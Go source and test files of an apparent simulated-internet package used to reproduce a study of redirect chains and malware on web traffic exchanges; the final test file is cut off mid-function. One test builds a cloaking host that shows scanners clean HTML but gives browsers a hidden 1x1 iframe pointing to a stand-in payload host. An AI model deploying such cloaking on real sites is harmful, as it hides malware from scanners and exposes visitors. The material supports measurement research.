package httpsim

import (
	"errors"
	"net/http/httptest"
	"strings"
	"testing"

	"repro/internal/htmlparse"
)

func newTestNet() *Internet {
	in := NewInternet()
	in.Register("start.example", func(req *Request) *Response {
		return Redirect("http://mid.example/hop")
	})
	in.Register("mid.example", func(req *Request) *Response {
		return Redirect("http://end.example/final?x=1")
	})
	in.Register("end.example", func(req *Request) *Response {
		return HTML("<html><body>landed</body></html>")
	})
	return in
}

func metaTarget(body []byte) string {
	return htmlparse.Parse(string(body)).MetaRefresh()
}

func TestRoundTripBasic(t *testing.T) {
	in := newTestNet()
	resp, err := in.RoundTrip(&Request{URL: "http://end.example/final"})
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != 200 || !strings.Contains(string(resp.Body), "landed") {
		t.Fatalf("resp = %+v", resp)
	}
	if resp.Latency <= 0 {
		t.Fatal("latency must be positive")
	}
}

func TestRoundTripNoHost(t *testing.T) {
	in := newTestNet()
	_, err := in.RoundTrip(&Request{URL: "http://nxdomain.example/"})
	if !errors.Is(err, ErrNoHost) {
		t.Fatalf("err = %v, want ErrNoHost", err)
	}
}

func TestRoundTripBadURL(t *testing.T) {
	in := newTestNet()
	_, err := in.RoundTrip(&Request{URL: ":::"})
	if !errors.Is(err, ErrBadURL) {
		t.Fatalf("err = %v, want ErrBadURL", err)
	}
}

func TestClientFollowsChain(t *testing.T) {
	in := newTestNet()
	c := NewClient(in)
	res, err := c.Get("http://start.example/", "UA", "")
	if err != nil {
		t.Fatal(err)
	}
	if res.Redirects() != 2 {
		t.Fatalf("redirects = %d, want 2 (chain %+v)", res.Redirects(), res.Chain)
	}
	if res.FinalURL != "http://end.example/final?x=1" {
		t.Fatalf("final URL = %q", res.FinalURL)
	}
	if res.Chain[0].Kind != "http" || res.Chain[2].Kind != "" {
		t.Fatalf("chain kinds wrong: %+v", res.Chain)
	}
}

func TestReferrerPropagation(t *testing.T) {
	in := NewInternet()
	var seenRef string
	in.Register("a.example", func(req *Request) *Response {
		return Redirect("http://b.example/")
	})
	in.Register("b.example", func(req *Request) *Response {
		seenRef = req.Referrer
		return HTML("ok")
	})
	c := NewClient(in)
	if _, err := c.Get("http://a.example/page", "UA", "http://exchange.example/surf"); err != nil {
		t.Fatal(err)
	}
	if seenRef != "http://a.example/page" {
		t.Fatalf("referrer on hop 2 = %q, want the previous hop", seenRef)
	}
}

func TestMetaRefreshFollowed(t *testing.T) {
	// Figure 4's final hop is a meta refresh.
	in := NewInternet()
	in.Register("linkbucks.example", func(req *Request) *Response {
		return Redirect("http://bridge.example/ct")
	})
	in.Register("bridge.example", func(req *Request) *Response {
		return HTML(`<html><head><meta http-equiv="refresh" content="0; url=http://theclickcheck.example/?sub=1"></head></html>`)
	})
	in.Register("theclickcheck.example", func(req *Request) *Response {
		return HTML("destination")
	})
	c := NewClient(in)
	c.FollowMetaRefresh = true
	c.MetaRefreshTarget = metaTarget
	res, err := c.Get("http://linkbucks.example/", "UA", "")
	if err != nil {
		t.Fatal(err)
	}
	if res.Redirects() != 2 {
		t.Fatalf("redirects = %d, chain = %+v", res.Redirects(), res.Chain)
	}
	if res.Chain[1].Kind != "meta" {
		t.Fatalf("second hop kind = %q, want meta", res.Chain[1].Kind)
	}
	if !strings.Contains(res.FinalURL, "theclickcheck") {
		t.Fatalf("final = %q", res.FinalURL)
	}
}

func TestMetaRefreshIgnoredWhenDisabled(t *testing.T) {
	in := NewInternet()
	in.Register("m.example", func(req *Request) *Response {
		return HTML(`<meta http-equiv="refresh" content="0; url=http://x.example/">`)
	})
	c := NewClient(in)
	res, err := c.Get("http://m.example/", "UA", "")
	if err != nil {
		t.Fatal(err)
	}
	if res.Redirects() != 0 {
		t.Fatalf("meta refresh followed although disabled: %+v", res.Chain)
	}
}

func TestRedirectLoopDetected(t *testing.T) {
	in := NewInternet()
	in.Register("loop.example", func(req *Request) *Response {
		return Redirect("http://loop.example/")
	})
	c := NewClient(in)
	_, err := c.Get("http://loop.example/", "UA", "")
	if !errors.Is(err, ErrRedirectLoop) {
		t.Fatalf("err = %v, want ErrRedirectLoop", err)
	}
}

func TestMaxHops(t *testing.T) {
	in := NewInternet()
	in.Register("deep.example", func(req *Request) *Response {
		// Redirect to an ever-longer distinct URL so loop detection
		// never fires and only the hop budget can stop the walk.
		return Redirect(req.URL + "x")
	})
	c := NewClient(in)
	c.MaxHops = 5
	_, err := c.Get("http://deep.example/a", "UA", "")
	if !errors.Is(err, ErrTooManyRedirects) {
		t.Fatalf("err = %v, want ErrTooManyRedirects", err)
	}
}

func TestResolveRef(t *testing.T) {
	cases := []struct{ base, target, want string }{
		{"http://a.example/x/y", "http://b.example/z", "http://b.example/z"},
		{"http://a.example/x/y", "/top", "http://a.example/top"},
		{"http://a.example/x/y", "sib", "http://a.example/x/sib"},
		{"http://a.example/x/", "sib", "http://a.example/x/sib"},
		{"http://a.example/", "//c.example/p", "http://c.example/p"},
		{"http://a.example/q?k=1", "/r", "http://a.example/r"},
		{"http://a.example/x", "", "http://a.example/x"},
	}
	for _, tc := range cases {
		if got := resolveRef(tc.base, tc.target); got != tc.want {
			t.Errorf("resolveRef(%q, %q) = %q, want %q", tc.base, tc.target, got, tc.want)
		}
	}
}

func TestCloakingDispatch(t *testing.T) {
	// A cloaking host serves clean content to scanner UAs and malware to
	// browsers — the behaviour footnote 1 of the paper mitigates by
	// downloading pages with the browser UA.
	in := NewInternet()
	in.Register("cloak.example", func(req *Request) *Response {
		if strings.Contains(req.UserAgent, "Scanner") {
			return HTML("<html>all clean here</html>")
		}
		return HTML(`<html><iframe width="1" height="1" src="http://payload.example/"></iframe></html>`)
	})
	browser, err := in.RoundTrip(&Request{URL: "http://cloak.example/", UserAgent: "Mozilla/5.0"})
	if err != nil {
		t.Fatal(err)
	}
	scanner, err := in.RoundTrip(&Request{URL: "http://cloak.example/", UserAgent: "ScannerBot/1.0"})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(browser.Body), "payload.example") {
		t.Fatal("browser did not receive the payload")
	}
	if strings.Contains(string(scanner.Body), "payload.example") {
		t.Fatal("scanner UA received the payload — cloak not working")
	}
}

func TestLatencyDeterministic(t *testing.T) {
	in := newTestNet()
	r1, _ := in.RoundTrip(&Request{URL: "http://end.example/final"})
	r2, _ := in.RoundTrip(&Request{URL: "http://end.example/final"})
	if r1.Latency != r2.Latency {
		t.Fatal("latency must be deterministic per URL")
	}
}

func TestHostsListing(t *testing.T) {
	in := newTestNet()
	hosts := in.Hosts()
	if len(hosts) != 3 || in.NumHosts() != 3 {
		t.Fatalf("hosts = %v", hosts)
	}
	if hosts[0] != "end.example" {
		t.Fatalf("hosts not sorted: %v", hosts)
	}
}

func TestNilHandlerResponse(t *testing.T) {
	in := NewInternet()
	in.Register("nil.example", func(req *Request) *Response { return nil })
	resp, err := in.RoundTrip(&Request{URL: "http://nil.example/"})
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != 500 {
		t.Fatalf("nil handler response mapped to %d, want 500", resp.StatusCode)
	}
}

func TestRealHTTPAdapterRoundTrip(t *testing.T) {
	// Serve the virtual net over a real TCP listener and walk the full
	// redirect chain through it.
	in := newTestNet()
	srv := httptest.NewServer(AsHTTPHandler(in))
	defer srv.Close()

	c := NewClient(&RealTransport{Base: srv.URL})
	res, err := c.Get("http://start.example/", "Mozilla/5.0", "")
	if err != nil {
		t.Fatal(err)
	}
	if res.Redirects() != 2 {
		t.Fatalf("redirects over real HTTP = %d, chain %+v", res.Redirects(), res.Chain)
	}
	if !strings.Contains(string(res.Final.Body), "landed") {
		t.Fatalf("final body = %q", res.Final.Body)
	}
}

func TestRealHTTPAdapterHeaders(t *testing.T) {
	in := NewInternet()
	var gotUA, gotRef string
	in.Register("hdr.example", func(req *Request) *Response {
		gotUA, gotRef = req.UserAgent, req.Referrer
		return HTML("ok")
	})
	srv := httptest.NewServer(AsHTTPHandler(in))
	defer srv.Close()

	c := NewClient(&RealTransport{Base: srv.URL})
	if _, err := c.Get("http://hdr.example/x", "CustomUA/2.0", "http://ref.example/"); err != nil {
		t.Fatal(err)
	}
	if gotUA != "CustomUA/2.0" || gotRef != "http://ref.example/" {
		t.Fatalf("headers lost over real HTTP: UA=%q ref=%q", gotUA, gotRef)
	}
}

func TestConcurrentRoundTrips(t *testing.T) {
	in := newTestNet()
	done := make(chan error, 32)
	for i := 0; i < 32; i++ {
		go func() {
			c := NewClient(in)
			_, err := c.Get("http://start.example/", "UA", "")
			done <- err
		}()
	}
	for i := 0; i < 32; i++ {
		if err := <-done; err != nil {
			t.Fatal(err)
		}
	}
}

func BenchmarkClientChain(b *testing.B) {
	in := newTestNet()
	c := NewClient(in)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := c.Get("http://start.example/", "UA", ""); err != nil {
			b.Fatal(err)
		}
	}
}

func TestResponseConstructors(t *testing.T) {
	if r := Script("var x = 1;"); r.StatusCode != 200 || r.ContentType != "application/javascript" {
		t.Fatalf("Script = %+v", r)
	}
	if r := Flash([]byte{1, 2}); r.ContentType != "application/x-shockwave-flash" || len(r.Body) != 2 {
		t.Fatalf("Flash = %+v", r)
	}
	if r := MovedPermanently("http://x/"); r.StatusCode != 301 || r.Location != "http://x/" {
		t.Fatalf("MovedPermanently = %+v", r)
	}
	if r := NotFound(); r.StatusCode != 404 {
		t.Fatalf("NotFound = %+v", r)
	}
	if r := Binary("application/pdf", []byte("x")); r.ContentType != "application/pdf" {
		t.Fatalf("Binary = %+v", r)
	}
}

func TestRequestMethodDefault(t *testing.T) {
	r := &Request{}
	if r.method() != "GET" {
		t.Fatalf("default method = %q", r.method())
	}
	r.Method = "HEAD"
	if r.method() != "HEAD" {
		t.Fatalf("explicit method = %q", r.method())
	}
}

func TestResultRedirectsEmpty(t *testing.T) {
	var r Result
	if r.Redirects() != 0 {
		t.Fatal("empty result should report 0 redirects")
	}
}

func TestPermanentRedirectFollowed(t *testing.T) {
	in := NewInternet()
	in.Register("old.example", func(req *Request) *Response {
		return MovedPermanently("http://new.example/")
	})
	in.Register("new.example", func(req *Request) *Response {
		return HTML("moved here")
	})
	res, err := NewClient(in).Get("http://old.example/", "UA", "")
	if err != nil {
		t.Fatal(err)
	}
	if res.Redirects() != 1 || res.FinalURL != "http://new.example/" {
		t.Fatalf("301 chain = %+v", res.Chain)
	}
}
