package httpsim

import (
	"errors"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"
)

// AsHTTPHandler adapts a virtual transport onto a real net/http handler
// using Host-header routing, so the whole synthetic universe can be served
// from one listener:
//
//	srv := httptest.NewServer(httpsim.AsHTTPHandler(internet))
//	curl -H 'Host: www.10khits.com' http://127.0.0.1:PORT/
//
// cmd/slumserve uses this to let a human poke the simulated exchanges and
// malware pages with a real browser or curl; the integration tests use it
// to prove the virtual handlers behave identically over a real TCP stack.
//
// The transport is any RoundTripper, so a FaultInjector-wrapped universe
// serves its faults for real: injected connection resets and timeouts
// abort the TCP connection mid-response, and truncated bodies go out with
// the full declared Content-Length so curl reports the transfer as cut
// off — exactly what the simulated client experiences.
func AsHTTPHandler(rt RoundTripper) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		host := r.Host
		if i := strings.IndexByte(host, ':'); i >= 0 {
			host = host[:i]
		}
		scheme := "http"
		if r.TLS != nil {
			scheme = "https"
		}
		url := scheme + "://" + host + r.URL.RequestURI()
		attempt, _ := strconv.Atoi(r.Header.Get("X-Sim-Attempt"))
		resp, err := rt.RoundTrip(&Request{
			Method:    r.Method,
			URL:       url,
			UserAgent: r.UserAgent(),
			Referrer:  r.Referer(),
			Attempt:   attempt,
		})
		switch {
		case errors.Is(err, ErrConnReset), errors.Is(err, ErrTimeout):
			// Abort the connection without a response, as the simulated
			// client sees it: curl gets "connection reset" / "empty reply".
			panic(http.ErrAbortHandler)
		case err != nil:
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		for k, v := range resp.Header {
			w.Header().Set(k, v)
		}
		if resp.ContentType != "" {
			w.Header().Set("Content-Type", resp.ContentType)
		}
		if resp.Location != "" {
			w.Header().Set("Location", resp.Location)
		}
		if resp.Truncated() {
			// Promise the full body, deliver the partial one: the server
			// closes the connection short and real clients observe an
			// incomplete transfer instead of silently-valid partial content.
			w.Header().Set("Content-Length", strconv.Itoa(resp.DeclaredLength))
		}
		w.WriteHeader(resp.StatusCode)
		if len(resp.Body) > 0 {
			w.Write(resp.Body)
		}
	})
}

// RealTransport adapts a net/http client into a RoundTripper so the
// simulator's Client (and therefore the crawler) can also fetch from a real
// HTTP server — used by the integration tests that round-trip the universe
// through AsHTTPHandler.
type RealTransport struct {
	// Base rewrites request URLs onto a real listener: the request's host
	// moves into the Host header and Base supplies scheme://addr. Empty
	// Base sends requests unmodified.
	Base string
	// HTTPClient is the underlying client; http.DefaultClient if nil.
	// Redirect following must be disabled on it (the simulator's Client
	// owns redirect logic); RoundTrip handles that by using a
	// CheckRedirect that stops at the first hop.
	HTTPClient *http.Client
}

var _ RoundTripper = (*RealTransport)(nil)

// RoundTrip performs one exchange against the real server.
func (t *RealTransport) RoundTrip(req *Request) (*Response, error) {
	client := t.HTTPClient
	if client == nil {
		client = &http.Client{}
	}
	// Never follow redirects here: chain walking belongs to Client.
	noFollow := *client
	noFollow.CheckRedirect = func(*http.Request, []*http.Request) error {
		return http.ErrUseLastResponse
	}

	target := req.URL
	hostHeader := ""
	if t.Base != "" {
		p := strings.SplitN(req.URL, "://", 2)
		if len(p) == 2 {
			slash := strings.IndexByte(p[1], '/')
			if slash < 0 {
				hostHeader = p[1]
				target = t.Base + "/"
			} else {
				hostHeader = p[1][:slash]
				target = t.Base + p[1][slash:]
			}
		}
	}

	hreq, err := http.NewRequest(req.method(), target, nil)
	if err != nil {
		return nil, err
	}
	if hostHeader != "" {
		hreq.Host = hostHeader
	}
	if req.UserAgent != "" {
		hreq.Header.Set("User-Agent", req.UserAgent)
	}
	if req.Referrer != "" {
		hreq.Header.Set("Referer", req.Referrer)
	}
	if req.Attempt > 1 {
		// Thread the retry attempt through to AsHTTPHandler so a
		// fault-injected server re-rolls exactly like the in-memory path.
		hreq.Header.Set("X-Sim-Attempt", strconv.Itoa(req.Attempt))
	}
	for k, v := range req.Header {
		hreq.Header.Set(k, v)
	}
	hresp, err := noFollow.Do(hreq)
	if err != nil {
		return nil, err
	}
	defer hresp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(hresp.Body, 8<<20))
	if err != nil {
		if errors.Is(err, io.ErrUnexpectedEOF) {
			// The server declared more bytes than it sent — the real-HTTP
			// form of an injected truncation.
			return nil, fmt.Errorf("%w: %s: %v", ErrTruncated, req.URL, err)
		}
		return nil, err
	}
	return &Response{
		StatusCode:  hresp.StatusCode,
		ContentType: hresp.Header.Get("Content-Type"),
		Location:    hresp.Header.Get("Location"),
		Body:        body,
		Latency:     syntheticLatency(req.URL),
	}, nil
}
