package httpsim

import (
	"io"
	"net/http"
	"strings"
)

// AsHTTPHandler adapts the virtual Internet onto a real net/http handler
// using Host-header routing, so the whole synthetic universe can be served
// from one listener:
//
//	srv := httptest.NewServer(httpsim.AsHTTPHandler(internet))
//	curl -H 'Host: www.10khits.com' http://127.0.0.1:PORT/
//
// cmd/slumserve uses this to let a human poke the simulated exchanges and
// malware pages with a real browser or curl; the integration tests use it
// to prove the virtual handlers behave identically over a real TCP stack.
func AsHTTPHandler(in *Internet) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		host := r.Host
		if i := strings.IndexByte(host, ':'); i >= 0 {
			host = host[:i]
		}
		scheme := "http"
		if r.TLS != nil {
			scheme = "https"
		}
		url := scheme + "://" + host + r.URL.RequestURI()
		resp, err := in.RoundTrip(&Request{
			Method:    r.Method,
			URL:       url,
			UserAgent: r.UserAgent(),
			Referrer:  r.Referer(),
		})
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		for k, v := range resp.Header {
			w.Header().Set(k, v)
		}
		if resp.ContentType != "" {
			w.Header().Set("Content-Type", resp.ContentType)
		}
		if resp.Location != "" {
			w.Header().Set("Location", resp.Location)
		}
		w.WriteHeader(resp.StatusCode)
		if len(resp.Body) > 0 {
			w.Write(resp.Body)
		}
	})
}

// RealTransport adapts a net/http client into a RoundTripper so the
// simulator's Client (and therefore the crawler) can also fetch from a real
// HTTP server — used by the integration tests that round-trip the universe
// through AsHTTPHandler.
type RealTransport struct {
	// Base rewrites request URLs onto a real listener: the request's host
	// moves into the Host header and Base supplies scheme://addr. Empty
	// Base sends requests unmodified.
	Base string
	// HTTPClient is the underlying client; http.DefaultClient if nil.
	// Redirect following must be disabled on it (the simulator's Client
	// owns redirect logic); RoundTrip handles that by using a
	// CheckRedirect that stops at the first hop.
	HTTPClient *http.Client
}

var _ RoundTripper = (*RealTransport)(nil)

// RoundTrip performs one exchange against the real server.
func (t *RealTransport) RoundTrip(req *Request) (*Response, error) {
	client := t.HTTPClient
	if client == nil {
		client = &http.Client{}
	}
	// Never follow redirects here: chain walking belongs to Client.
	noFollow := *client
	noFollow.CheckRedirect = func(*http.Request, []*http.Request) error {
		return http.ErrUseLastResponse
	}

	target := req.URL
	hostHeader := ""
	if t.Base != "" {
		p := strings.SplitN(req.URL, "://", 2)
		if len(p) == 2 {
			slash := strings.IndexByte(p[1], '/')
			if slash < 0 {
				hostHeader = p[1]
				target = t.Base + "/"
			} else {
				hostHeader = p[1][:slash]
				target = t.Base + p[1][slash:]
			}
		}
	}

	hreq, err := http.NewRequest(req.method(), target, nil)
	if err != nil {
		return nil, err
	}
	if hostHeader != "" {
		hreq.Host = hostHeader
	}
	if req.UserAgent != "" {
		hreq.Header.Set("User-Agent", req.UserAgent)
	}
	if req.Referrer != "" {
		hreq.Header.Set("Referer", req.Referrer)
	}
	for k, v := range req.Header {
		hreq.Header.Set(k, v)
	}
	hresp, err := noFollow.Do(hreq)
	if err != nil {
		return nil, err
	}
	defer hresp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(hresp.Body, 8<<20))
	if err != nil {
		return nil, err
	}
	return &Response{
		StatusCode:  hresp.StatusCode,
		ContentType: hresp.Header.Get("Content-Type"),
		Location:    hresp.Header.Get("Location"),
		Body:        body,
		Latency:     syntheticLatency(req.URL),
	}, nil
}
