// Package httpsim provides the simulated internet the measurement runs
// against: an in-memory registry of virtual hosts, a redirect-following
// client that records full hop chains, and an adapter that mounts the same
// virtual universe onto a real net/http server for interactive use.
//
// The paper's crawler logged live HTTP/HTTPS traffic through Firebug and
// observed 302 chains up to seven hops deep ending in meta refreshes
// (Figure 4, Figure 5). This package reproduces that transport layer
// deterministically: virtual servers decide their response from the full
// request (method, UA, referrer — which is what makes server-side cloaking
// expressible), and the client walks redirects exactly as a browser would,
// capturing every hop for the HAR log.
package httpsim

import (
	"errors"
	"fmt"
	"hash/fnv"
	"sort"
	"strings"
	"sync"
	"time"

	"repro/internal/match"
	"repro/internal/urlutil"
)

// Request is a simulated HTTP request.
type Request struct {
	// Method is "GET" unless set.
	Method string
	// URL is the absolute target URL.
	URL string
	// UserAgent and Referrer are the headers cloaking dispatches on.
	UserAgent string
	Referrer  string
	// Header holds any additional headers.
	Header map[string]string
	// Attempt is the 1-based fetch attempt this request belongs to.
	// Retrying callers bump it so the fault-injection layer re-rolls its
	// (seeded, stateless) decision; zero is treated as attempt 1.
	Attempt int
}

func (r *Request) method() string {
	if r.Method == "" {
		return "GET"
	}
	return r.Method
}

// Response is a simulated HTTP response (one hop).
type Response struct {
	StatusCode  int
	ContentType string
	// Location is the redirect target for 3xx responses.
	Location string
	Body     []byte
	Header   map[string]string
	// Latency is the simulated server latency for HAR timing entries. It
	// is derived deterministically from the URL; no wall-clock sleeping
	// happens.
	Latency time.Duration
	// DeclaredLength, when non-zero, is the body length the server
	// announced (the Content-Length analog). A body shorter than the
	// declaration means the transfer was cut off mid-stream; the Client
	// surfaces that as ErrTruncated instead of handing partial content to
	// the analysis pipeline.
	DeclaredLength int
	// MetaRefresh / MetaRefreshKnown let a server that renders a body once
	// and shares it across many responses (the web package's page cache)
	// precompute the meta-refresh extraction: when MetaRefreshKnown is
	// true, MetaRefresh holds exactly what Client.MetaRefreshTarget would
	// return for Body, and the client skips re-scanning an unchanged body
	// on every fetch. Anything that alters Body must clear the flag.
	MetaRefresh      string
	MetaRefreshKnown bool
}

// Truncated reports whether the body arrived shorter than declared.
func (r *Response) Truncated() bool {
	return r.DeclaredLength > 0 && len(r.Body) < r.DeclaredLength
}

// Handler produces a Response for a Request. Handlers see the full request
// so they can cloak on User-Agent or Referrer.
type Handler func(req *Request) *Response

// Common errors.
var (
	ErrNoHost           = errors.New("httpsim: no such host")
	ErrTooManyRedirects = errors.New("httpsim: too many redirects")
	ErrRedirectLoop     = errors.New("httpsim: redirect loop")
	ErrBadURL           = errors.New("httpsim: bad URL")
)

// Internet is the virtual network: a host registry. It is safe for
// concurrent use.
type Internet struct {
	mu    sync.RWMutex
	hosts map[string]Handler
}

// NewInternet returns an empty virtual network.
func NewInternet() *Internet {
	return &Internet{hosts: make(map[string]Handler)}
}

// Register binds a handler to a hostname (exact, lowercase match; "www."
// prefixes are registered separately if wanted). Re-registering replaces
// the previous handler.
func (in *Internet) Register(host string, h Handler) {
	in.mu.Lock()
	defer in.mu.Unlock()
	in.hosts[strings.ToLower(host)] = h
}

// Hosts returns the sorted list of registered hostnames.
func (in *Internet) Hosts() []string {
	in.mu.RLock()
	defer in.mu.RUnlock()
	out := make([]string, 0, len(in.hosts))
	for h := range in.hosts {
		out = append(out, h)
	}
	sort.Strings(out)
	return out
}

// NumHosts returns the number of registered hosts.
func (in *Internet) NumHosts() int {
	in.mu.RLock()
	defer in.mu.RUnlock()
	return len(in.hosts)
}

// RoundTrip performs a single request/response exchange (no redirect
// following). Unknown hosts return ErrNoHost, the NXDOMAIN analog.
func (in *Internet) RoundTrip(req *Request) (*Response, error) {
	p, err := urlutil.Parse(req.URL)
	if err != nil {
		return nil, fmt.Errorf("%w: %v", ErrBadURL, err)
	}
	in.mu.RLock()
	h, ok := in.hosts[p.Host]
	in.mu.RUnlock()
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrNoHost, p.Host)
	}
	resp := h(req)
	if resp == nil {
		resp = &Response{StatusCode: 500}
	}
	if resp.ContentType == "" && resp.StatusCode < 300 {
		resp.ContentType = "text/html"
	}
	resp.Latency = syntheticLatency(req.URL)
	return resp, nil
}

// syntheticLatency derives a stable pseudo-latency in [20ms, 500ms] from
// the URL, so HAR timings look realistic and experiments stay repeatable.
func syntheticLatency(url string) time.Duration {
	h := fnv.New32a()
	h.Write([]byte(url))
	return time.Duration(20+int(h.Sum32()%481)) * time.Millisecond
}

// Hop is one step of a redirect chain.
type Hop struct {
	URL        string
	StatusCode int
	// Kind describes how the next hop was reached: "http" for 3xx
	// Location redirects, "meta" for meta-refresh, "" for the final hop.
	Kind        string
	ContentType string
	BodySize    int
	Latency     time.Duration
}

// Result is a completed (redirect-followed) fetch.
type Result struct {
	// Chain lists every hop in order; the last entry is the final
	// response. len(Chain)-1 is the redirect count of Figure 5.
	Chain []Hop
	// Final is the last response received.
	Final *Response
	// FinalURL is the URL of the final response.
	FinalURL string
}

// Redirects returns the number of redirections taken (hops - 1).
func (r *Result) Redirects() int {
	if len(r.Chain) == 0 {
		return 0
	}
	return len(r.Chain) - 1
}

// Client follows redirect chains over a transport.
type Client struct {
	transport RoundTripper
	// MaxHops bounds total requests per fetch (initial + redirects).
	MaxHops int
	// FollowMetaRefresh makes the client honor <meta http-equiv=refresh>,
	// as a browser does; the meta extraction is injected so httpsim does
	// not depend on the HTML parser.
	FollowMetaRefresh bool
	// MetaRefreshTarget extracts the refresh target from an HTML body, or
	// "" if none. Required when FollowMetaRefresh is set.
	MetaRefreshTarget func(body []byte) string
	// Budget bounds the total virtual latency a single fetch (all hops)
	// may accumulate — the per-request deadline analog. Zero means no
	// limit. Exceeding it returns ErrBudget with the partial chain; no
	// wall-clock time is involved.
	Budget time.Duration
}

// RoundTripper is the single-exchange transport interface. *Internet
// implements it.
type RoundTripper interface {
	RoundTrip(req *Request) (*Response, error)
}

var _ RoundTripper = (*Internet)(nil)

// NewClient returns a Client over the given transport with a browser-like
// hop budget.
func NewClient(t RoundTripper) *Client {
	return &Client{transport: t, MaxHops: 12}
}

// Get fetches url with redirect following, recording the full hop chain.
// The Referrer of follow-up hops is the previous hop's URL, matching
// browser behaviour (and feeding the shortener hit-statistics referrer
// fields).
func (c *Client) Get(url, userAgent, referrer string) (*Result, error) {
	return c.Do(url, userAgent, referrer, 1)
}

// Do is Get with an explicit 1-based attempt number, threaded into every
// hop's Request so the fault-injection layer can re-roll per retry. Even
// on error the returned Result carries the hops completed so far, letting
// callers account for partial chains.
func (c *Client) Do(url, userAgent, referrer string, attempt int) (*Result, error) {
	res := &Result{}
	// Loop detection needs the set of prior hop URLs; single-hop fetches —
	// the overwhelming majority — never need the map, so allocate it only
	// once a redirect is actually followed.
	var seen map[string]bool
	first := ""
	current := url
	ref := referrer
	maxHops := c.MaxHops
	if maxHops <= 0 {
		maxHops = 12
	}
	var elapsed time.Duration
	for hop := 0; hop < maxHops; hop++ {
		norm, err := urlutil.Normalize(current)
		if err != nil {
			return res, fmt.Errorf("%w: %v", ErrBadURL, err)
		}
		if hop == 0 {
			first = norm
		} else {
			if seen == nil {
				seen = map[string]bool{first: true}
			}
			if seen[norm] {
				return res, fmt.Errorf("%w: %s", ErrRedirectLoop, norm)
			}
			seen[norm] = true
		}

		resp, err := c.transport.RoundTrip(&Request{URL: current, UserAgent: userAgent, Referrer: ref, Attempt: attempt})
		if err != nil {
			return res, err
		}
		if resp.Truncated() {
			return res, fmt.Errorf("%w: %s: got %d of %d bytes",
				ErrTruncated, norm, len(resp.Body), resp.DeclaredLength)
		}
		elapsed += resp.Latency
		if c.Budget > 0 && elapsed > c.Budget {
			return res, fmt.Errorf("%w: %v elapsed at %s (budget %v)",
				ErrBudget, elapsed, norm, c.Budget)
		}
		h := Hop{
			URL:         norm,
			StatusCode:  resp.StatusCode,
			ContentType: resp.ContentType,
			BodySize:    len(resp.Body),
			Latency:     resp.Latency,
		}

		next := ""
		switch {
		case resp.StatusCode >= 300 && resp.StatusCode < 400 && resp.Location != "":
			next = resolveRef(norm, resp.Location)
			h.Kind = "http"
		case c.FollowMetaRefresh && c.MetaRefreshTarget != nil && isHTML(resp.ContentType):
			target := resp.MetaRefresh
			if !resp.MetaRefreshKnown {
				target = c.MetaRefreshTarget(resp.Body)
			}
			if target != "" {
				next = resolveRef(norm, target)
				h.Kind = "meta"
			}
		}

		res.Chain = append(res.Chain, h)
		res.Final = resp
		res.FinalURL = norm
		if next == "" {
			return res, nil
		}
		ref = norm
		current = next
	}
	return res, ErrTooManyRedirects
}

func isHTML(contentType string) bool {
	return match.HasPrefixFold(contentType, "text/html")
}

// resolveRef resolves target against base: absolute URLs pass through,
// path-absolute targets replace the path, anything else is joined onto the
// base directory.
func resolveRef(base, target string) string {
	target = strings.TrimSpace(target)
	if target == "" {
		return base
	}
	if strings.Contains(target, "://") {
		return target
	}
	p, err := urlutil.Parse(base)
	if err != nil {
		return target
	}
	if strings.HasPrefix(target, "//") {
		return p.Scheme + ":" + target
	}
	if strings.HasPrefix(target, "/") {
		p.Path = target
		p.Query = ""
		return p.String()
	}
	dir := p.Path
	if i := strings.LastIndexByte(dir, '/'); i >= 0 {
		dir = dir[:i+1]
	} else {
		dir = "/"
	}
	p.Path = dir + target
	p.Query = ""
	return p.String()
}

// --- convenience response constructors ---

// HTML returns a 200 text/html response.
func HTML(body string) *Response {
	return &Response{StatusCode: 200, ContentType: "text/html", Body: []byte(body)}
}

// Script returns a 200 JavaScript response.
func Script(body string) *Response {
	return &Response{StatusCode: 200, ContentType: "application/javascript", Body: []byte(body)}
}

// Flash returns a 200 SWF response.
func Flash(body []byte) *Response {
	return &Response{StatusCode: 200, ContentType: "application/x-shockwave-flash", Body: body}
}

// Redirect returns a 302 to location.
func Redirect(location string) *Response {
	return &Response{StatusCode: 302, Location: location, ContentType: "text/html"}
}

// MovedPermanently returns a 301 to location.
func MovedPermanently(location string) *Response {
	return &Response{StatusCode: 301, Location: location, ContentType: "text/html"}
}

// notFoundBody is shared across all 404s; response bodies are read-only
// throughout the stack (the fault injector copies the struct and truncates
// by reslicing), so sharing the bytes is safe.
var notFoundBody = []byte("<html><body>404</body></html>")

// NotFound returns a 404.
func NotFound() *Response {
	return &Response{StatusCode: 404, ContentType: "text/html", Body: notFoundBody}
}

// Binary returns a 200 with the given content type, used for executable
// payloads (application/octet-stream).
func Binary(contentType string, body []byte) *Response {
	return &Response{StatusCode: 200, ContentType: contentType, Body: body}
}
