package httpsim

import (
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strconv"
	"sync"
	"testing"
	"time"
)

// forceProfile returns a profile that injects the given kind on every
// request — the deterministic way to exercise one fault path.
func forceProfile(kind FaultKind) FaultProfile {
	p := FaultProfile{Name: "force-" + kind.String()}
	p.Rates[kind] = 1.0
	return p
}

// faultyInternet is a tiny universe plus an injector over it.
func faultyInternet(profile FaultProfile, seed uint64) (*Internet, *FaultInjector) {
	in := NewInternet()
	in.Register("site.test", func(req *Request) *Response {
		return HTML("<html><body>hello from site.test</body></html>")
	})
	in.Register("hop.test", func(req *Request) *Response {
		return Redirect("http://site.test/")
	})
	return in, NewFaultInjector(in, profile, seed)
}

func TestFaultPickDeterministic(t *testing.T) {
	hostile, _ := ProfileByName("hostile")
	urls := []string{
		"http://a.test/", "http://b.test/x", "http://c.test/y?z=1",
		"http://d.test/", "http://e.test/deep/path",
	}
	type decision struct {
		kind FaultKind
		ok   bool
	}
